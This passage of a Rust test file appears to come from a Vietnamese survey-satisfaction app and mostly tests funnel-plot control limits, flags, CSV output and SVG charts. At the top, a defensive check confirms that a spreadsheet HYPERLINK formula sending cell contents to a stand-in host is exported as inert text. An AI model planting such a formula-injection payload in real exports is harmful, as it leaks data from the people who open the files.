    let sheet = book.worksheet_range("district_summary").unwrap();
    let cell = sheet.rows().find(|r| r[0] == Data::String("D2".into())).unwrap()[1].clone();
    assert_eq!(cell, Data::String("=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")".into()));
    assert!(book.worksheet_formula("district_summary").unwrap().used_cells().next().is_none(), "no formulas");
});

/// A province after July 2025: five communes with ballots directly under it and one without.
/// Centre 900 ÷ 1,000 = 90 %. For 100 ballots at p0 = 0.9 the contract's limits, summed
/// apart in exact binomials, are 83.2281 / 94.9619 (95 %) and 79.1643 / 97.5821 (99.8 %);
/// for 600 ballots 87.4519 / 92.2564 and 85.9460 / 93.4988. So 79 % is below, 80 % and 97 %
/// within, 98 % above, and 91 % of 600 within.
async fn funnel_province(engine: Engine) -> TestApp {
    TestApp::spawn_with(engine, false, |db| async move {
        let units = "code,name,level,parent_code,kind,valid_from\nP,Tỉnh Phễu,province,,tỉnh,\n\
                     X1,Xã Dưới,commune,P,xã,2025-07-01\nX2,Xã Sát Dưới,commune,P,xã,2025-07-01\n\
                     X3,Xã Sát Trên,commune,P,xã,2025-07-01\nX4,Xã Lớn,commune,P,xã,2025-07-01\n\
                     X5,Xã Trên,commune,P,xã,2025-07-01\nX6,Xã Không Phiếu,commune,P,xã,2025-07-01\n";
        let surveys = "unit_code,model_code,period,respondents,satisfied\n\
                       X1,,2025-08,100,79\nX2,,2025-08,100,80\nX3,,2025-08,100,97\nX4,,2025-08,600,546\nX5,,2025-08,100,98\n";
        let mut set = app::ssr::import::ImportSet::default();
        set.units = Some(server::sources::parse_csv("units.csv", units.as_bytes(), &mut set.problems));
        set.surveys = Some(server::sources::parse_csv("surveys.csv", surveys.as_bytes(), &mut set.problems).into());
        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
    })
    .await
}

on_both_engines!(the_funnel_flags_units_beyond_chance_in_api_csv_and_chart, |engine: Engine| async move {
    let app = funnel_province(engine).await;
    let rows: serde_json::Value = app.get("/api/v1/figures/funnel?period=2025-08").await.json().await.unwrap();
    let rows = rows.as_array().unwrap();
    let codes: Vec<&str> = rows.iter().map(|r| r["unit_code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["X1", "X2", "X3", "X4", "X5"], "by code, none without ballots");
    let flags: Vec<&str> = rows.iter().map(|r| r["flag"].as_str().unwrap()).collect();
    assert_eq!(flags, ["below", "within", "within", "within", "above"]);
    assert_eq!(
        rows[0],
        serde_json::json!({
            "unit_code": "X1", "unit_name": "Xã Dưới", "respondents": 100, "satisfied": 79,
            "satisfaction_rate": 79.0, "centre": 90.0, "lower_95": 83.23, "upper_95": 94.96,
            "lower_998": 79.16, "upper_998": 97.58, "flag": "below"
        })
    );
    let x4 = &rows[3];
    assert_eq!((x4["lower_95"].as_f64(), x4["upper_95"].as_f64()), (Some(87.45), Some(92.26)));
    assert_eq!((x4["lower_998"].as_f64(), x4["upper_998"].as_f64()), (Some(85.95), Some(93.5)));
    // The CSV holds the same rows, in the contract's columns.
    let csv = app.get("/charts/satisfaction-funnel.csv?period=2025-08").await.text().await.unwrap();
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap().trim_start_matches('\u{feff}'),
        "unit_code,unit_name,respondents,satisfied,satisfaction_rate,centre,lower_95,upper_95,lower_998,upper_998,flag"
    );
    let csv_rows: Vec<Vec<String>> = lines.map(|l| l.split(',').map(str::to_string).collect()).collect();
    assert_eq!(csv_rows.len(), rows.len());
    for (line, row) in csv_rows.iter().zip(rows) {
        assert_eq!(line[0], row["unit_code"].as_str().unwrap());
        assert_eq!(line[2], row["respondents"].to_string());
        for (i, column) in [(4, "satisfaction_rate"), (5, "centre"), (6, "lower_95"), (9, "upper_998")] {
            assert_eq!(line[i].parse::<f64>().unwrap(), row[column].as_f64().unwrap(), "{column}");
        }
        assert_eq!(line[10], row["flag"].as_str().unwrap());
    }
    // The chart: a point per unit, the centre line, the 99.8 % pair solid, the flagged named.
    let svg = app.get("/charts/satisfaction-funnel.svg?period=2025-08&lang=vi").await.text().await.unwrap();
    assert_eq!(svg.matches("<circle").count(), 5, "{svg}");
    assert_eq!(svg.matches("fill=\"#D55E00\"").count(), 1, "one below, in vermilion");
    assert_eq!(svg.matches("fill=\"#009E73\"").count(), 1, "one above, in green");
    assert_eq!(svg.matches("<polyline fill=\"none\" opacity=\"1\" stroke=\"#E69F00\"").count(), 3, "two limits and the legend's: {svg}");
    assert!(svg.contains("Xã Dưới") && svg.contains("Xã Trên") && !svg.contains("Xã Lớn"), "only the flagged are named");
    assert!(svg.contains("Chung 90,00%"));
    // A district that is not one is refused by name.
    let r = app.get("/api/v1/figures/funnel?period=2025-08&district=X1").await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("X1"));
});
